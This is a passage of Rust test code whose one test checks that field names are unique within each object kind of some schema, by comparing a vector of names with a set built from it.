    fn every_field_name_is_unique_within_its_object() {
        for kind in sections() {
            let names: Vec<&str> = fields(kind).iter().map(|f| f.name).collect();
            let set: std::collections::BTreeSet<&&str> = names.iter().collect();
            assert_eq!(set.len(), names.len(), "{kind:?}");
        }
    }
}
